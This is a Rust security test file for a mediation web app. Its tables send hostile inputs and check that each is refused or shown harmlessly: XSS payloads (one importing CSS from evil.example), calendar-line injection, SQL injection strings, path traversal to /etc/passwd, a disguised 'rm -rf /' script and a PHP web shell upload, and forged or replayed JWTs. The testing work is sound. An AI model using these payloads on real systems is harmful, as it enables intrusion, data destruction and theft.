//! Hostile input, table-driven. Each line is one attack: who sends it, what is sent, the
//! exact answer expected, and whether anything may be stored. The next one found is one more
//! line. Every table runs against the real app on the backend of the run.
use std::time::Duration;

use concilia::db::{self, DbConn};
use diesel::prelude::*;
use reqwest::multipart::{Form, Part};
use tokio::io::{AsyncReadExt, AsyncWriteExt};

use crate::case_file::{PDF, mediation};
use crate::cases::{Cast, cast};
use crate::helpers::{Browser, PASSWORD, TestApp, cookie_in};

/// Who sends a request: a browser signed in as one of the case's people, or nobody.
#[derive(Debug, Clone, Copy)]
enum Who {
    Nobody,
    Consumer,
    Trader,
    Mediator,
    Staff,
}

/// What is sent. Forms from a browser carry that browser's CSRF token, as its page would.
enum Req {
    Get(String),
    Form(String, Vec<(String, String)>),
    /// A url-encoded body exactly as given (no CSRF token added).
    Body(String, &'static str, Vec<u8>),
    Json(String, String),
    /// An API call with a bearer token.
    Bearer(&'static str, String, String, Option<String>),
    Upload(String, Vec<(String, String)>, Vec<(String, Vec<u8>)>),
    /// Bytes written to the socket as they are; `stall` keeps the connection open after them.
    Raw(Vec<u8>, bool),
}

/// What the answer must be.
#[derive(Debug)]
enum Says {
    /// A JSON error with this stable code.
    Code(&'static str),
    /// A page showing this message (by id, in English).
    Message(&'static str),
    /// A redirect to exactly this place.
    Redirect(String),
    /// A page or body that contains this text.
    Contains(String),
    /// A redirect that a browser can only follow to a page of this site.
    LocalRedirect,
}

/// Whether the database may change.
#[derive(Debug, Clone, Copy, PartialEq)]
enum Stores {
    Nothing,
    /// The text is kept as typed (markup that must then be shown harmlessly).
    Something,
}

struct Row {
    name: String,
    who: Who,
    req: Req,
    status: u16,
    says: Says,
    stores: Stores,
}

fn row(
    name: impl Into<String>,
    who: Who,
    req: Req,
    status: u16,
    says: Says,
    stores: Stores,
) -> Row {
    Row {
        name: name.into(),
        who,
        req,
        status,
        says,
        stores,
    }
}

fn form(path: impl Into<String>, fields: &[(&str, &str)]) -> Req {
    Req::Form(
        path.into(),
        fields
            .iter()
            .map(|(k, v)| (k.to_string(), v.to_string()))
            .collect(),
    )
}

fn json(path: impl Into<String>, body: impl Into<String>) -> Req {
    Req::Json(path.into(), body.into())
}

fn msg(id: &'static str) -> Says {
    Says::Message(id)
}

/// Everything the attacks aim at: a case in mediation with a document on it.
struct World {
    app: TestApp,
    cast: Cast,
    trader: Browser,
    id: String,
    doc: String,
    nobody: Browser,
}

async fn world() -> World {
    let dir = tempfile::tempdir().unwrap();
    let url = crate::helpers::fresh_database_url(dir.path());
    // A body that stalls is dropped after 2 s here (30 s by default).
    let app = crate::helpers::spawn_app_with(dir, url, |c| {
        c.body_timeout = Duration::from_secs(2);
        c.upload_files_per_request = 5;
    })
    .await;
    let cast = cast(&app).await;
    let (id, trader) = mediation(&app, &cast).await;
    let res = crate::case_file::upload(
        &app,
        &cast.consumer,
        &id,
        "everyone",
        vec![("receipt.pdf", PDF.to_vec())],
    )
    .await;
    assert_eq!(res.status(), 303, "evidence uploaded");
    let case_id = id.clone();
    let doc = app
        .db(move |c| {
            db::case_file::documents(
                c,
                &case_id,
                &[concilia::domain::cases::codes::Audience::Everyone],
            )
        })
        .await
        .pop()
        .unwrap()
        .id;
    let (client, jar) = app.new_browser();
    World {
        app,
        cast,
        trader,
        id,
        doc,
        nobody: Browser { client, jar },
    }
}

impl World {
    /// A GET written to the socket as it is, with a person's session: no client library
    /// normalises the path on the way.
    fn raw_get_as(&self, who: Who, path: &str) -> Req {
        let session = cookie_in(
            &self.browser(who).jar,
            &self.app.address,
            "concilia_session",
        )
        .unwrap();
        Req::Raw(format!("GET {path} HTTP/1.1\r\nHost: localhost\r\nCookie: concilia_session={session}\r\nConnection: close\r\n\r\n").into_bytes(), false)
    }

    /// A POST written to the socket as it is, with a person's session and CSRF cookies; it
    /// announces `length` bytes and sends `body`, then stalls or closes.
    fn raw_post_as(
        &self,
        who: Who,
        path: &str,
        content_type: &str,
        length: usize,
        body: &[u8],
        stall: bool,
    ) -> Req {
        let jar = &self.browser(who).jar;
        let cookie = |name: &str| cookie_in(jar, &self.app.address, name).unwrap_or_default();
        let mut bytes = format!(
            "POST {path} HTTP/1.1\r\nHost: localhost\r\nCookie: concilia_session={}; concilia_csrf={}\r\nContent-Type: {content_type}\r\nContent-Length: {length}\r\n\r\n",
            cookie("concilia_session"),
            cookie("concilia_csrf"),
        )
        .into_bytes();
        bytes.extend_from_slice(body);
        Req::Raw(bytes, stall)
    }

    /// The start of an upload as the page sends it: its token, then a file that goes on.
    fn multipart_head(&self) -> Vec<u8> {
        let token = cookie_in(&self.cast.consumer.jar, &self.app.address, "concilia_csrf")
            .unwrap_or_default();
        let mut head = format!(
            "--XyZ\r\nContent-Disposition: form-data; name=\"csrf_token\"\r\n\r\n{token}\r\n--XyZ\r\nContent-Disposition: form-data; name=\"audience\"\r\n\r\neveryone\r\n--XyZ\r\nContent-Disposition: form-data; name=\"file\"; filename=\"big.pdf\"\r\nContent-Type: application/pdf\r\n\r\n"
        )
        .into_bytes();
        head.extend_from_slice(PDF);
        head
    }

    fn browser(&self, who: Who) -> &Browser {
        match who {
            Who::Nobody => &self.nobody,
            Who::Consumer => &self.cast.consumer,
            Who::Trader => &self.trader,
            Who::Mediator => &self.cast.mediator,
            Who::Staff => &self.cast.staff,
        }
    }

    async fn send(&self, who: Who, req: &Req) -> (u16, String, String) {
        let app = &self.app;
        let b = self.browser(who);
        let res = match req {
            Req::Get(path) => b.get(app, path).await,
            Req::Form(path, fields) => {
                let fields: Vec<(&str, &str)> = fields
                    .iter()
                    .map(|(k, v)| (k.as_str(), v.as_str()))
                    .collect();
                b.post(app, path, &fields).await
            }
            Req::Body(path, content_type, body) => b
                .client
                .post(app.url(path))
                .header("content-type", *content_type)
                .body(body.clone())
                .send()
                .await
                .unwrap(),
            Req::Json(path, body) => b
                .client
                .post(app.url(path))
                .header("content-type", "application/json")
                .body(body.clone())
                .send()
                .await
                .unwrap(),
            Req::Bearer(method, path, token, body) => {
                let method = reqwest::Method::from_bytes(method.as_bytes()).unwrap();
                let mut r = reqwest::Client::new()
                    .request(method, app.url(path))
                    .header("authorization", format!("Bearer {token}"));
                if let Some(body) = body {
                    r = r
                        .header("content-type", "application/json")
                        .body(body.clone());
                }
                r.send().await.unwrap()
            }
            Req::Upload(path, fields, files) => {
                if cookie_in(&b.jar, &app.address, "concilia_csrf").is_none() {
                    b.get(app, "/").await;
                }
                let token = cookie_in(&b.jar, &app.address, "concilia_csrf").unwrap_or_default();
                let mut form = Form::new().text("csrf_token", token);
                for (k, v) in fields {
                    form = form.text(k.clone(), v.clone());
                }
                for (name, bytes) in files {
                    form = form.part("file", Part::bytes(bytes.clone()).file_name(name.clone()));
                }
                b.client
                    .post(app.url(path))
                    .multipart(form)
                    .send()
                    .await
                    .unwrap()
            }
            Req::Raw(bytes, stall) => return raw(app, bytes, *stall).await,
        };
        let status = res.status().as_u16();
        let location = res
            .headers()
            .get("location")
            .and_then(|v| v.to_str().ok())
            .unwrap_or_default()
            .to_string();
        let body = res.text().await.unwrap_or_default();
        (status, location, body)
    }
}

/// Writes bytes to a fresh connection and reads the answer: status, location, body.
async fn raw(app: &TestApp, bytes: &[u8], stall: bool) -> (u16, String, String) {
    let addr = app.address.trim_start_matches("http://");
    let mut s = tokio::net::TcpStream::connect(addr).await.unwrap();
    s.write_all(bytes).await.unwrap();
    if !stall {
        s.shutdown().await.ok();
    }
    let mut out = Vec::new();
    let read = tokio::time::timeout(Duration::from_secs(60), s.read_to_end(&mut out)).await;
    assert!(read.is_ok(), "no answer within 60 s");
    let text = String::from_utf8_lossy(&out).to_string();
    let status = text
        .split_whitespace()
        .nth(1)
        .and_then(|s| s.parse().ok())
        .unwrap_or(0);
    let location = text
        .lines()
        .find_map(|l| l.strip_prefix("location: "))
        .unwrap_or_default()
        .to_string();
    (status, location, text)
}

/// Rows of the tables that an accepted request can add to. Read markers, throttle counters
/// and job runs are left out: reading a page or failing a sign-in may change those.
const TABLES: &[&str] = &[
    "users",
    "organisations",
    "account_tokens",
    "cases",
    "case_events",
    "case_members",
    "case_messages",
    "case_documents",
    "hearings",
    "hearing_answers",
    "proposals",
    "proposal_answers",
    "blind_offers",
    "agreements",
    "obligations",
    "report_texts",
    "trainings",
    "holidays",
    "outbox",
];

#[derive(QueryableByName)]
struct Count {
    #[diesel(sql_type = diesel::sql_types::BigInt)]
    n: i64,
}

async fn counts(app: &TestApp) -> Vec<(&'static str, i64)> {
    app.db(|c| {
        let mut out = Vec::new();
        for t in TABLES {
            let q = diesel::sql_query(format!("SELECT COUNT(*) AS n FROM {t}"));
            let n = match c {
                DbConn::Sqlite(c) => q.get_result::<Count>(c)?.n,
                DbConn::Postgresql(c) => q.get_result::<Count>(c)?.n,
            };
            out.push((*t, n));
        }
        Ok(out)
    })
    .await
}

/// Whether a browser given this Location stays on this site: it resolves the value the
/// WHATWG way (dropping tabs and line breaks, reading backslashes as slashes).
fn stays_here(location: &str) -> bool {
    let base = url::Url::parse("https://concilia.example/signin").unwrap();
    location.starts_with('/')
        && !location
            .chars()
            .any(|c| c.is_control() || c.is_whitespace())
        && base
            .join(location)
            .is_ok_and(|u| u.host_str() == Some("concilia.example"))
}

fn unescape(html: &str) -> String {
    html.replace("&#x27;", "'")
        .replace("&#x2f;", "/")
        .replace("&quot;", "\"")
        .replace("&lt;", "<")
        .replace("&gt;", ">")
        .replace("&amp;", "&")
}

/// Sends every row and checks each answer; all failures are reported together.
async fn check(w: &World, rows: Vec<Row>) {
    let mut failures = Vec::new();
    for r in &rows {
        let before = counts(&w.app).await;
        let (status, location, body) = w.send(r.who, &r.req).await;
        let after = counts(&w.app).await;
        let mut wrong = Vec::new();
        if status != r.status {
            wrong.push(format!("status {status}, expected {}", r.status));
        }
        let said = match &r.says {
            Says::Code(code) => serde_json::from_str::<serde_json::Value>(&body)
                .ok()
                .and_then(|v| v["error"]["code"].as_str().map(str::to_string))
                .is_some_and(|c| c == *code),
            Says::Message(id) => {
                unescape(&body).contains(&concilia::i18n::t("en", id))
                    && body.contains("<!doctype html>")
            }
            Says::Redirect(to) => location == *to,
            Says::LocalRedirect => stays_here(&location),
            Says::Contains(text) => body.contains(text.as_str()),
        };
        if !said {
            let shown: String = body.chars().take(300).collect();
            wrong.push(format!(
                "expected {:?}; location {location:?}; body {shown:?}",
                r.says
            ));
        }
        for ((table, a), (_, b)) in before.iter().zip(&after) {
            // Email may legitimately go out for an accepted write; an attack stores nothing.
            if r.stores == Stores::Nothing && a != b {
                wrong.push(format!("{table}: {a} rows before, {b} after"));
            }
        }
        if !wrong.is_empty() {
            failures.push(format!("{}: {}", r.name, wrong.join("; ")));
        }
    }
    eprintln!("{} hostile inputs sent", rows.len());
    assert!(
        failures.is_empty(),
        "{} of {} hostile inputs answered wrongly:\n{}",
        failures.len(),
        rows.len(),
        failures.join("\n")
    );
}

/// Markup and script, each with a word of its own so that every place it shows is found.
const MARKUP: &[&str] = &[
    "<script>alert('hx1')</script>",
    "\"><img src=x onerror=alert('hx2')>",
    "<svg/onload=alert('hx3')>",
    "</textarea><script>hx4()</script>",
    "<a href=\"javascript:alert('hx5')\">hx5</a>",
    "<iframe srcdoc=\"<script>hx6()</script>\">",
    "<style>@import 'http://evil.example/hx7.css';</style>",
    "{{ 7*7 }}{% if true %}hx8{% endif %}",
];

/// Rows that store markup through every free-text field of the case file; `shown_harmlessly`
/// then looks for it in every page, email, calendar and export.
fn markup_rows(w: &World) -> Vec<Row> {
    let id = &w.id;
    let mut rows = Vec::new();
    for (i, m) in MARKUP.iter().enumerate() {
        rows.push(row(
            format!("markup {i} in a shared message"),
            Who::Consumer,
            form(
                format!("/cases/{id}/messages"),
                &[("audience", "everyone"), ("body", m)],
            ),
            303,
            Says::Contains(String::new()),
            Stores::Something,
        ));
        rows.push(row(
            format!("markup {i} in an evidence title and description"),
            Who::Trader,
            Req::Upload(
                format!("/cases/{id}/documents"),
                vec![
                    ("audience".into(), "everyone".into()),
                    ("title".into(), m.to_string()),
                    ("description".into(), m.to_string()),
                ],
                vec![(format!("{m}.pdf"), PDF.to_vec())],
            ),
            303,
            Says::Redirect(format!("/cases/{id}/documents?notice=documents-added#main")),
            Stores::Something,
        ));
    }
    let date = (chrono::Utc::now().date_naive() + chrono::Duration::days(10)).to_string();
    let place = format!(
        "{} 5 Market St\r\nATTENDEE:mailto:evil@example.org\r\nEND:VEVENT",
        MARKUP[0]
    );
    rows.push(row(
        "markup and calendar lines in a hearing's address",
        Who::Mediator,
        form(
            format!("/cases/{id}/hearings"),
            &[
                ("date", &date),
                ("time", "10:00"),
                ("time_zone", "Europe/Sofia"),
                ("duration_minutes", "60"),
                ("form", "in_person"),
                ("place", &place),
            ],
        ),
        303,
        Says::Contains(String::new()),
        Stores::Something,
    ));
    rows.push(row(
        "markup in an extension's reason",
        Who::Mediator,
        form(
            format!("/cases/{id}/steps/extend"),
            &[("days", "30"), ("reason", MARKUP[0])],
        ),
        303,
        Says::Redirect(format!("/cases/{id}?notice=step-done#main")),
        Stores::Something,
    ));
    rows
}

/// Every place a stored text comes back to a person, as that person sees it.
async fn outputs(w: &World) -> Vec<(String, String)> {
    let id = &w.id;
    let mut out = Vec::new();
    // Every section of the case page, for each person on the case.
    let sections = [
        "",
        "/messages",
        "/documents",
        "/hearings",
        "/settlement",
        "/history",
    ];
    let case_pages = [Who::Consumer, Who::Trader, Who::Mediator, Who::Staff]
        .into_iter()
        .flat_map(|who| sections.map(|s| (who, format!("/cases/{id}{s}"))));
    for (who, path) in case_pages.chain([
        (Who::Staff, "/cases".to_string()),
        (Who::Staff, "/cases?q=hx1".to_string()),
        (Who::Consumer, "/dashboard".to_string()),
        (Who::Staff, "/dashboard".to_string()),
        (Who::Staff, "/intake".to_string()),
        (Who::Mediator, "/hearings".to_string()),
        (Who::Staff, format!("/cases/{id}/certificate")),
    ]) {
        let (status, _, body) = w.send(who, &Req::Get(path.clone())).await;
        out.push((format!("{who:?} {path} ({status})"), body));
    }
    out
}

/// No markup stored by the rows above runs anywhere it is shown: not in pages, not in the
/// HTML part of an email, and the template syntax is shown as typed, never evaluated.
async fn shown_harmlessly(w: &World) {
    let mut seen = Vec::new();
    for (place, body) in outputs(w).await {
        for m in MARKUP.iter().filter(|m| m.contains('<')) {
            assert!(!body.contains(m), "{place} shows {m:?} as markup");
        }
        assert!(!body.contains("49hx8"), "{place} evaluated template syntax");
        if body.contains("hx1") {
            seen.push(place);
        }
    }
    assert!(
        !seen.is_empty(),
        "the stored markup shows somewhere, escaped"
    );
    // The hearing's calendar invitation: one event, no line that the address smuggled in.
    let mails = w.app.emails_to("clara@example.org").await;
    let mail = mails
        .iter()
        .rev()
        .find(|m| m.contains("Content-Type: text/calendar"))
        .expect("a calendar invitation");
    let ics = crate::hearings::calendar_part(mail);
    let (_, event) = crate::hearings::parse(&ics);
    assert!(!event.contains_key("ATTENDEE"), "{ics}");
    let lines = |l: &str| ics.lines().filter(|x| x.trim_end() == l).count();
    assert_eq!(lines("BEGIN:VEVENT"), 1, "{ics}");
    assert_eq!(lines("END:VEVENT"), 1, "{ics}");
    assert!(!ics.lines().any(|l| l.starts_with("ATTENDEE")), "{ics}");
    assert!(event["LOCATION"].contains("Market St"), "{ics}");
    for mail in w.app.outbox().await {
        let html = mail
            .split("Content-Type: text/html")
            .nth(1)
            .and_then(|part| part.split("\n--").next())
            .unwrap_or_default();
        for m in MARKUP.iter().filter(|m| m.contains('<')) {
            assert!(!html.contains(m), "an email's HTML shows {m:?} as markup");
        }
    }
}

#[tokio::test]
async fn markup_in_every_free_text_field_is_stored_as_typed_and_never_runs() {
    let w = world().await;
    check(&w, markup_rows(&w)).await;
    shown_harmlessly(&w).await;
}

/// SQL and LIKE metacharacters in the search and in the filters: answered as text.
#[rustfmt::skip]
fn query_rows(_w: &World) -> Vec<Row> {
    let mut rows = Vec::new();
    for q in ["'", "\"", "' OR '1'='1", "'; DROP TABLE cases; --", "%", "_", "%%%", "\\", "\\%", "a%'--", "1) UNION SELECT password_hash FROM users --", "$1", "?", "%00", "*", "[a-z]"] {
        let enc: String = url::form_urlencoded::byte_serialize(q.as_bytes()).collect();
        rows.push(row(format!("search for {q:?} finds nothing"), Who::Staff, Req::Get(format!("/cases?q={enc}")), 200, msg("cases-empty"), Stores::Nothing));
    }
    for (name, query) in [("state filter", "state='%20OR%201=1--"), ("mediator filter", "mediator=%27%20OR%20%271%27=%271"), ("trader filter", "trader=%25"), ("days filter", "days_left=1;DROP%20TABLE%20cases"), ("days filter overflow", "days_left=99999999999999999999"), ("cursor", "after=%27%20OR%201=1--")] {
        rows.push(row(format!("SQL in the {name}"), Who::Staff, Req::Get(format!("/cases?{query}")), 200, Says::Contains("<!doctype html>".into()), Stores::Nothing));
    }
    rows
}

#[tokio::test]
async fn sql_and_like_metacharacters_are_searched_for_as_text() {
    let w = world().await;
    check(&w, query_rows(&w)).await;
    // The case is still found by its own words, so the searches above did run.
    let (status, _, body) = w
        .send(Who::Staff, &Req::Get("/cases?q=washing".into()))
        .await;
    assert_eq!(status, 200);
    assert!(body.contains(&format!("/cases/{}", w.id)));
}

/// Odd names and ids: path traversal, encodings and words that are not ids.
#[rustfmt::skip]
fn id_rows(w: &World) -> Vec<Row> {
    let (id, doc) = (&w.id, &w.doc);
    let mut rows = Vec::new();
    for path in [
        "/cases/..%2f..%2fetc%2fpasswd".to_string(),
        "/cases/%2e%2e".to_string(),
        "/cases/'%20OR%20'1'='1".to_string(),
        "/cases/%3Cscript%3Ealert(1)%3C%2Fscript%3E".to_string(),
        format!("/cases/{id}%20"),
        format!("/cases/{}", id.to_uppercase()),
        format!("/cases/{id}/documents/..%2f..%2fconcilia.db"),
        format!("/cases/{id}/documents/{doc}%2f..%2f..%2fconcilia.db"),
        format!("/cases/{id}/documents/../../concilia.db"),
        "/static/..%2f..%2fCargo.toml".to_string(),
        "/static/%2e%2e/%2e%2e/Cargo.toml".to_string(),
        "/static/....//....//Cargo.toml".to_string(),
        format!("/cases/{id}/documents/{}", "9".repeat(5000)),
        format!("/cases/{id}/draft/..%2f..%2fadmin"),
        format!("/cases/{id}/draft/%2e%2e/%2e%2e/admin"),
    ] {
        rows.push(row(format!("path {path}"), Who::Nobody, w.raw_get_as(Who::Consumer, &path), 404, Says::Contains(concilia::i18n::t("en", "error-page-not-found")), Stores::Nothing));
    }
    rows.push(row("another case's document through this case", Who::Consumer, Req::Get(format!("/cases/{}/documents/{doc}", concilia::db::new_id())), 404, msg("error-page-not-found"), Stores::Nothing));
    rows
}

#[tokio::test]
async fn odd_paths_and_ids_find_nothing() {
    let w = world().await;
    check(&w, id_rows(&w)).await;
}

/// Uploads that lie about what they are, or carry names meant to mislead or escape.
#[rustfmt::skip]
fn upload_rows(w: &World) -> Vec<Row> {
    let id = &w.id;
    let to = format!("/cases/{id}/documents");
    let fields = || vec![("audience".to_string(), "everyone".to_string())];
    let refused = |name: &str, bytes: &[u8]| Req::Upload(to.clone(), fields(), vec![(name.to_string(), bytes.to_vec())]);
    let mut rows = Vec::new();
    for (what, name, bytes) in [
        ("a program named .pdf", "invoice.pdf", b"MZ\x90\x00\x03\x00\x00\x00\x04\x00".as_slice()),
        ("an ELF program named .png", "photo.png", b"\x7fELF\x02\x01\x01\x00\x00\x00\x00\x00"),
        ("HTML named .pdf", "receipt.pdf", b"<!doctype html><script>alert(1)</script>"),
        ("HTML named .png", "photo.png", b"<html><body onload=alert(1)>"),
        ("SVG with script named .png", "photo.png", b"<svg xmlns=\"http://www.w3.org/2000/svg\"><script>alert(1)</script></svg>"),
        ("SVG as itself", "drawing.svg", b"<svg xmlns=\"http://www.w3.org/2000/svg\"><script>alert(1)</script></svg>"),
        ("a shell script named .jpg", "photo.jpg", b"#!/bin/sh\nrm -rf /\n"),
        ("a ZIP named .pdf", "contract.pdf", b"PK\x03\x04\x14\x00\x00\x00\x08\x00"),
        ("a PDF named .exe", "receipt.exe", PDF),
        ("a PDF named .html", "receipt.html", PDF),
        ("a PDF with no name ending", "receipt", PDF),
        ("an empty file", "empty.pdf", b""),
        ("JavaScript named .txt", "notes.js", b"alert(document.cookie)"),
        ("a PHP script named .gif", "anim.gif.php", b"GIF89a<?php system($_GET['c']); ?>"),
    ] {
        rows.push(row(format!("upload {what}"), Who::Consumer, refused(name, bytes), 422, Says::Contains("<!doctype html>".into()), Stores::Nothing));
    }
    rows
}

#[tokio::test]
async fn uploads_that_lie_about_their_content_are_refused_and_leave_nothing() {
    let w = world().await;
    check(&w, upload_rows(&w)).await;
}

/// A session token as an attacker could make one: its claims, signed with `key`.
fn jwt(key: &[u8], claims: serde_json::Value) -> String {
    jsonwebtoken::encode(
        &jsonwebtoken::Header::new(jsonwebtoken::Algorithm::HS256),
        &claims,
        &jsonwebtoken::EncodingKey::from_secret(key),
    )
    .unwrap()
}

fn b64(bytes: &[u8]) -> String {
    use base64::Engine;
    base64::engine::general_purpose::URL_SAFE_NO_PAD.encode(bytes)
}

/// Tokens forged, expired, tampered with or replayed after sign-out; links used twice.
#[rustfmt::skip]
async fn token_rows(w: &World) -> Vec<Row> {
    let app = &w.app;
    let secret = concilia::config::jwt_secret(&app.state.config).unwrap();
    let key = concilia::config::expose(&secret).as_bytes().to_vec();
    let consumer = app.user_by_email("clara@example.org").await;
    let now = chrono::Utc::now().timestamp();
    let claims = |sub: &str, iat: i64, exp: i64, iss: &str, ver: i32| serde_json::json!({ "sub": sub, "iat": iat, "exp": exp, "iss": iss, "ver": ver, "sid": "a-sign-in" });
    let good = claims(&consumer.id, now, now + 600, "concilia", consumer.token_version);
    let valid = jwt(&key, good.clone());
    let (head, rest) = valid.split_once('.').unwrap();
    let (_, sig) = rest.rsplit_once('.').unwrap();
    let staff = app.user_by_email("staff@centre.example").await;
    let as_staff = b64(claims(&staff.id, now, now + 600, "concilia", staff.token_version).to_string().as_bytes());
    let none_header = b64(br#"{"alg":"none","typ":"JWT"}"#);
    let body = b64(good.to_string().as_bytes());
    let hs512 = jsonwebtoken::encode(&jsonwebtoken::Header::new(jsonwebtoken::Algorithm::HS512), &good, &jsonwebtoken::EncodingKey::from_secret(&key)).unwrap();
    // A token that worked, then its owner signed out everywhere.
    let replayed = app.api_token("mia@centre.example").await;
    let res = reqwest::Client::new().delete(app.url("/api/v1/session")).bearer_auth(&replayed).send().await.unwrap();
    assert_eq!(res.status(), 204, "signed out");

    let invalid: Vec<(&str, String)> = vec![
        ("signed with another key", jwt(b"not the server's key at all, 32+ bytes", good.clone())),
        ("alg none", format!("{none_header}.{body}.")),
        ("alg none with the real signature", format!("{none_header}.{body}.{sig}")),
        ("HS512 instead of HS256", hs512),
        ("claims swapped for staff's", format!("{head}.{as_staff}.{sig}")),
        ("wrong issuer", jwt(&key, claims(&consumer.id, now, now + 600, "someone-else", consumer.token_version))),
        ("an old token version", jwt(&key, claims(&consumer.id, now, now + 600, "concilia", consumer.token_version - 1))),
        ("a user that does not exist", jwt(&key, claims("no-such-user", now, now + 600, "concilia", 0))),
        ("no expiry", jwt(&key, serde_json::json!({ "sub": consumer.id, "iat": now, "iss": "concilia", "ver": consumer.token_version, "sid": "a-sign-in" }))),
        ("no sign-in id", jwt(&key, serde_json::json!({ "sub": consumer.id, "iat": now, "exp": now + 600, "iss": "concilia", "ver": consumer.token_version }))),
        ("replayed after sign-out", replayed),
        ("garbage", "not.a.token".into()),
        ("empty parts", "..".into()),
        ("one huge part", "A".repeat(20_000)),
        ("a CSRF token instead", app.csrf().await),
    ];
    let mut rows = Vec::new();
    for (what, token) in invalid {
        rows.push(row(format!("bearer token {what}"), Who::Nobody, Req::Bearer("GET", "/api/v1/me".into(), token.clone(), None), 401, Says::Code("token_invalid"), Stores::Nothing));
        rows.push(row(format!("session cookie {what}"), Who::Nobody, Req::Raw(format!("GET /dashboard HTTP/1.1\r\nHost: localhost\r\nCookie: concilia_session={token}\r\nConnection: close\r\n\r\n").into_bytes(), false), 401, Says::Contains(concilia::i18n::t("en", "error-page-token-invalid").replace('\'', "&#x27;")), Stores::Nothing));
    }
    let expired = jwt(&key, claims(&consumer.id, now - 1200, now - 600, "concilia", consumer.token_version));
    rows.push(row("bearer token expired", Who::Nobody, Req::Bearer("GET", "/api/v1/me".into(), expired.clone(), None), 401, Says::Code("token_expired"), Stores::Nothing));
    rows.push(row("expired bearer token posting a message", Who::Nobody, Req::Bearer("POST", format!("/api/v1/cases/{}/messages", w.id), expired, Some(r#"{"audience":"everyone","body":"late"}"#.into())), 401, Says::Code("token_expired"), Stores::Nothing));
    // A valid token of one party cannot reach another's caucus, or a case not theirs.
    let trader_token = app.api_token(crate::cases::TRADER_EMAIL).await;
    rows.push(row("a stranger's valid token on the case", Who::Nobody, Req::Bearer("GET", format!("/api/v1/cases/{}", concilia::db::new_id()), trader_token.clone(), None), 404, Says::Code("not_found"), Stores::Nothing));
    rows.push(row("a party's token writing to the other side's caucus", Who::Nobody, Req::Bearer("POST", format!("/api/v1/cases/{}/messages", w.id), trader_token, Some(r#"{"audience":"caucus_consumer","body":"hello"}"#.into())), 403, Says::Code("forbidden"), Stores::Nothing));
    rows
}

#[tokio::test]
async fn forged_expired_and_replayed_tokens_are_refused() {
    let w = world().await;
    let rows = token_rows(&w).await;
    check(&w, rows).await;
}

/// Forms sent without their token, with a forged one, or with another browser's.
#[rustfmt::skip]
async fn csrf_rows(w: &World) -> Vec<Row> {
    let path = format!("/cases/{}/messages", w.id);
    let other_token = {
        let (client, jar) = w.app.new_browser();
        client.get(w.app.url("/")).send().await.unwrap();
        cookie_in(&jar, &w.app.address, "concilia_csrf").unwrap()
    };
    let fields = "audience=everyone&body=forged";
    let forged = "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA.BBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBB";
    let as_consumer = |token: &str, cookie: Option<&str>| {
        let session = cookie_in(&w.cast.consumer.jar, &w.app.address, "concilia_session").unwrap();
        let cookies = match cookie {
            Some(c) => format!("concilia_session={session}; concilia_csrf={c}"),
            None => format!("concilia_session={session}"),
        };
        let body = format!("{fields}&csrf_token={token}");
        Req::Raw(format!("POST {path} HTTP/1.1\r\nHost: localhost\r\nCookie: {cookies}\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{body}", body.len()).into_bytes(), false)
    };
    let own = cookie_in(&w.cast.consumer.jar, &w.app.address, "concilia_csrf").unwrap();
    let refused = || Says::Contains(concilia::i18n::t("en", "error-page-csrf").replace('\'', "&#x27;"));
    vec![
        row("no token at all", Who::Consumer, Req::Body(path.clone(), "application/x-www-form-urlencoded", fields.as_bytes().to_vec()), 403, msg("error-page-csrf"), Stores::Nothing),
        row("an empty token", Who::Consumer, Req::Body(path.clone(), "application/x-www-form-urlencoded", format!("{fields}&csrf_token=").into_bytes()), 403, msg("error-page-csrf"), Stores::Nothing),
        row("a forged cookie and field pair", Who::Nobody, as_consumer(forged, Some(forged)), 403, refused(), Stores::Nothing),
        row("the field without its cookie", Who::Nobody, as_consumer(&own, None), 403, refused(), Stores::Nothing),
        row("a field that differs from the cookie", Who::Nobody, as_consumer(&other_token, Some(&own)), 403, refused(), Stores::Nothing),
        row("another browser's token pair", Who::Nobody, as_consumer(&other_token, Some(&other_token)), 403, refused(), Stores::Nothing),
        row("the token twice, one forged", Who::Consumer, Req::Body(path.clone(), "application/x-www-form-urlencoded", format!("{fields}&csrf_token={forged}&csrf_token={own}").into_bytes()), 403, msg("error-page-csrf"), Stores::Nothing),
        row("a JSON body to a form route", Who::Consumer, Req::Json(path.clone(), r#"{"audience":"everyone","body":"json"}"#.to_string()), 403, msg("error-page-csrf"), Stores::Nothing),
        row("sign-out without a token", Who::Consumer, Req::Body("/signout".into(), "application/x-www-form-urlencoded", vec![]), 403, msg("error-page-csrf"), Stores::Nothing),
        row("an upload without a token", Who::Consumer, Req::Body(format!("/cases/{}/documents", w.id), "multipart/form-data; boundary=x", b"--x\r\nContent-Disposition: form-data; name=\"audience\"\r\n\r\neveryone\r\n--x--\r\n".to_vec()), 403, msg("error-page-csrf"), Stores::Nothing),
    ]
}

/// Bodies too large, malformed, cut short or of the wrong kind.
#[rustfmt::skip]
fn body_rows(w: &World) -> Vec<Row> {
    let path = format!("/cases/{}/messages", w.id);
    let huge = "x".repeat(70 * 1024);
    let long = "y".repeat(20_001);
    let cut = b"POST /api/v1/session HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\nContent-Length: 500\r\n\r\n{\"email\":\"clara@example.org\",".to_vec();
    vec![
        row("a form body over the limit", Who::Consumer, form(path.clone(), &[("audience", "everyone"), ("body", &huge)]), 413, msg("error-page-too-large"), Stores::Nothing),
        row("a message over its length", Who::Consumer, form(path.clone(), &[("audience", "everyone"), ("body", &long)]), 422, msg("error-message-too-long"), Stores::Nothing),
        row("a JSON body over the limit", Who::Nobody, json("/api/v1/session", format!(r#"{{"email":"{huge}","password":"x"}}"#)), 413, Says::Code("payload_too_large"), Stores::Nothing),
        row("malformed JSON", Who::Nobody, json("/api/v1/session", r#"{"email":"#), 400, Says::Code("bad_request"), Stores::Nothing),
        // JSON, but not of the shape asked for: invalid input, as any other (`input.rs`).
        row("JSON of the wrong shape", Who::Nobody, json("/api/v1/session", r#"{"email":5,"password":[]}"#), 422, Says::Code("invalid"), Stores::Nothing),
        // Well-formed JSON too: the nesting is refused as a list where the session wants an object.
        row("JSON nested a thousand deep", Who::Nobody, json("/api/v1/session", format!("{}{}", "[".repeat(1000), "]".repeat(1000))), 422, Says::Code("invalid"), Stores::Nothing),
